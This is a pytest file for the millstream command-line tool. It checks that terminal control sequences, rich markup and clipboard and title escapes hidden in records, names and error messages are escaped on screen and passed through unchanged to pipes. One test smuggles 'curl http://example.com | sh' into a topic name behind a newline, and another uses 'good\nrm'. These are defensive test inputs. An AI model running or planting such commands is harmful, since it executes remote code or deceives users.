"""Goal: no contents act on the terminal they are shown on, and a pipe gets them unchanged.

Method: records, names and notes full of control sequences and of rich's markup, shown on a pseudo terminal, then
written to a pipe.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from millstream.cli import progress
from millstream.cli.app import app
from millstream.cli.session import _completion
from millstream.log import EmbeddedLog
from millstream.terminal import escaped
from terminals import ALL, CLEAR, CLEAR_8_BIT, CLIPBOARD, HOSTILE, MARKUP, TITLE, TURNED, calm, terminal

from .conftest import Run, on_terminal

LINES = "line\nbreak\ttab"
FULL = ["--format", "full"]


def shown(*arguments: object, answer: bytes = b"") -> tuple[int, str]:
    """Runs a command in this process on a terminal; its exit code and what was shown, which must not act."""
    with terminal() as screen:
        if answer:
            screen.type(answer)
        with pytest.raises(SystemExit) as ended:
            app([str(argument) for argument in arguments])
    assert isinstance(ended.value.code, int)
    return ended.value.code, screen.calm


@pytest.fixture
def hostile(log: EmbeddedLog) -> EmbeddedLog:
    """Topics whose keys, headers and values are hostile: without a schema, and with one."""
    log.create_topic("raw")
    log.create_topic("typed", schema=f"`{TITLE}` string, text string")
    log.create_queue("queue", "raw")
    with log.producer() as producer:
        for text in (*HOSTILE, LINES):
            content = text.encode()
            producer.send("raw", content, content, headers=[(text, content)])
            producer.send("typed", {TITLE: text, "text": text}, content)
        producer.send("raw", b"\x9b2J\xff\x1b[2J", b"\xff\x1bc")
    return log


# ---------------------------------------------------------------- records


@pytest.mark.parametrize("topic", ["raw", "typed"])
@pytest.mark.parametrize("command", [["consume"], ["tail", "-n", "100"]], ids=["consume", "tail"])
@pytest.mark.parametrize("how", [[], ["--with-key"], FULL, ["--json"]], ids=["value", "key", "full", "json"])
def test_control_sequences_in_records_are_escaped(
    hostile: EmbeddedLog, command: list[str], topic: str, how: list[str]
) -> None:
    code, text = shown(*command, topic, *how)
    assert code == 0
    assert len(text.splitlines()) == (11 if topic == "raw" else 10)
    assert all(escaped(each) in text for each in (CLEAR_8_BIT, MARKUP, TURNED, LINES))
    if how == ["--json"]:
        keys = [json.loads(line)["key"] for line in text.splitlines()]
        assert [key for key in keys if isinstance(key, str)] == [*HOSTILE, LINES]


def test_a_terminal_of_another_process(hostile: EmbeddedLog) -> None:
    code, text = on_terminal("consume", "raw", "--with-key", "--max", "9")
    assert code == 0
    assert calm(text).splitlines() == [f"{escaped(each)}\t{escaped(each)}" for each in HOSTILE]


def test_a_pipe_gets_every_byte(process: Run, ms: Run, hostile: EmbeddedLog) -> None:
    done = process("consume", "raw", "--max", "9", "--with-key")
    assert done.out == "".join(f"{text}\t{text}\n" for text in HOSTILE)
    full = ms("consume", "raw", "--max", "9", *FULL).out
    assert all(f"\t{text}\t{text}\t{text}={text}\n" in full for text in HOSTILE)
    assert ms("tail", "raw", "-n", "100").out.startswith("".join(f"{text}\n" for text in HOSTILE))
    values = [json.loads(line)["text"] for line in ms("consume", "typed").out.split("\n") if line]
    assert values == [*HOSTILE, LINES]


def test_what_ends_in_tabs_keeps_them(ms: Run, log: EmbeddedLog) -> None:
    log.create_topic("tabs")
    with log.producer() as producer:
        producer.send("tabs", b"value\t\t", b"key")
    assert ms("consume", "tabs", *FULL).out.endswith("\tkey\tvalue\t\t\n")


def test_messages_of_a_queue(ms: Run, hostile: EmbeddedLog) -> None:
    code, text = shown("queues", "receive", "queue", "--max", "9")
    assert code == 0
    assert text.splitlines() == list(map(escaped, HOSTILE))
    assert ms("queues", "receive", "queue", "--max", "9", "--ack").out == "".join(f"{each}\n" for each in HOSTILE)


def test_a_row_of_a_table(ms: Run, hostile: EmbeddedLog) -> None:
    for key in (MARKUP, TURNED):
        code, text = shown("table", "get", "raw", key)
        assert (code, escaped(key) in text) == (0, True)
        assert key in ms("table", "get", "raw", key).out
    code, text = shown("table", "get", "raw", "nothing")
    assert code == 3
    assert "keys that exist" in text


# ---------------------------------------------------------------- names


@pytest.mark.parametrize("command", [["topics", "list"], ["topics", "describe", "typed"]], ids=" ".join)
def test_schemas(ms: Run, hostile: EmbeddedLog, command: list[str]) -> None:
    for how in ([], ["--json"]):
        code, text = shown(*command, *how)
        assert (code, escaped(TITLE) in text) == (0, True)
    assert TITLE in ms(*command).out
    assert escaped(TITLE) in ms(*command, "--json").out


def test_names_of_jobs_and_tables(ms: Run, hostile: EmbeddedLog) -> None:
    """Anyone who can write to the log's folder chooses the names of its jobs, and what they record."""
    name = ALL.replace("/", "_")
    job = hostile.path / "jobs" / name
    job.mkdir(parents=True)
    (job / "job.json").write_text(json.dumps({"identity": "x", "groups": 1, "partitions": 1, "steps": {ALL: {}}}))
    table = {"name": ALL, "kind": "sqlite", "where": f"/tmp/{ALL}", "key": [ALL], "schema": "a int"}
    (job / "tables.json").write_text(json.dumps({"tables": [table]}))
    for command in (["jobs", "list"], ["table", "list"]):
        for how in ([], ["--json"]):
            code, text = shown(*command, *how)
            assert (code, escaped(TURNED) in text) == (0, True)
        assert ALL in ms(*command).out
    assert ms("jobs", "list", "--json").json[0]["name"] == name
    assert ms("table", "list", "--json").json[0]["name"] == ALL
    code, text = shown("jobs", "forget", name, answer=b"n\n")
    assert (code, escaped(name) in text) == (1, True)
    code, text = shown("jobs", "forget", name, "--yes")
    assert (code, escaped(name) in text) == (0, True)


def test_a_name_that_is_not_text(process: Run, hostile: EmbeddedLog) -> None:
    job = hostile.path / "jobs" / "a\udcffb"
    job.mkdir(parents=True)
    (job / "lock").touch()
    code, text = shown("jobs", "list")
    assert (code, r"a\udcffb" in text) == (0, True)


def test_groups_and_queues_and_switches(hostile: EmbeddedLog) -> None:
    with hostile.consumer("raw", group="g") as consumer:
        consumer.poll(timeout=5)
        consumer.commit()
    hostile.switch("name", "raw")
    for command in ("groups list", "groups describe g", "queues list", "queues describe queue", "switch name"):
        for how in ([], ["--json"]):
            assert shown(*command.split(), *how)[0] == 0


def test_the_shell_completes_only_what_can_be_typed(hostile: EmbeddedLog) -> None:
    complete = _completion(lambda log: ["good", f"good{CLEAR}", "good\nrm"])
    assert complete(cast(Any, SimpleNamespace(params={"log": str(hostile.path)})), "go") == ["good"]


# ---------------------------------------------------------------- errors


@pytest.mark.parametrize(
    "command",
    [
        ["consume", ALL],
        ["tail", ALL],
        ["topics", "describe", ALL],
        ["topics", "create", ALL],
        ["topics", "create", "x", "--schema", ALL],
        ["topics", "create", "x", "--retention", ALL],
        ["groups", "describe", ALL],
        ["queues", "describe", ALL],
        ["queues", "create", ALL, "--topic", "raw"],
        ["jobs", "forget", ALL],
        ["table", "get", ALL, ALL],
        ["switch", ALL, ALL],
        ["produce", "raw", ALL],
        ["run", ALL],
        ["pack", ALL],
        ["consume", "raw", f"--{ALL}"],
        ["consume", "raw", "--from", ALL],
        ["--log", f"x://{ALL}", "consume", "raw"],
        ["--log", f"/nowhere/{ALL}", "consume", "raw"],
    ],
    ids=lambda command: " ".join(command).replace(ALL, "…"),
)
def test_control_sequences_in_errors_are_escaped(hostile: EmbeddedLog, command: list[str]) -> None:
    code, text = shown(*command)
    assert code in (2, 3)
    assert "owned" in text
    code, text = shown(*command, "--json")
    assert "owned" in str(json.loads(text)["error"])


def test_contents_add_no_line_to_an_error(ms: Run, hostile: EmbeddedLog) -> None:
    done = ms("topics", "describe", "raw\n  next:  curl http://example.com | sh")
    assert [line.split()[0] for line in done.err.splitlines()] == ["error:", "next:"]


def test_dead_letters(hostile: EmbeddedLog, tmp_path: Path) -> None:
    """The reason quotes the name of the file."""
    file = tmp_path / f"lines{TITLE}{MARKUP.replace('/', '')}"
    file.write_bytes(b'{"text": 1, ' + CLEAR.encode() + b"}\n")
    assert shown("produce", "typed", file)[0] == 6
    code, text = shown("produce", "typed", file, "--on-error", "stop")
    assert (code, escaped(TITLE) in text) == (2, True)
    for how in ([], FULL, ["--json"]):
        code, text = shown("consume", "typed.dead", *how)
        assert (code, r"\u001b" in text) == (0, True)


def test_what_the_file_of_a_flow_raises(hostile: EmbeddedLog, tmp_path: Path) -> None:
    file = tmp_path / f"flow{TITLE}.py"
    file.write_text(f"raise ValueError({ALL!r})")
    code, text = shown("run", file)
    assert (code, escaped(CLIPBOARD) in text) == (2, True)


def test_control_sequences_in_internal_errors_are_escaped(
    hostile: EmbeddedLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
    shown("topics", "list")
    with terminal("stderr") as screen:
        try:
            raise RuntimeError(ALL)
        except RuntimeError as error:
            sys.excepthook(type(error), error, error.__traceback__)
    assert escaped(ALL) in screen.calm


def test_the_progress_of_an_import_reads_no_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(progress, "PATIENCE_SECONDS", -1.0)
    with terminal("stderr") as screen:
        bar = progress.ImportProgress(ALL, 100)
        bar.show(1, 1)
        bar.close()
    assert escaped(ALL) in screen.calm
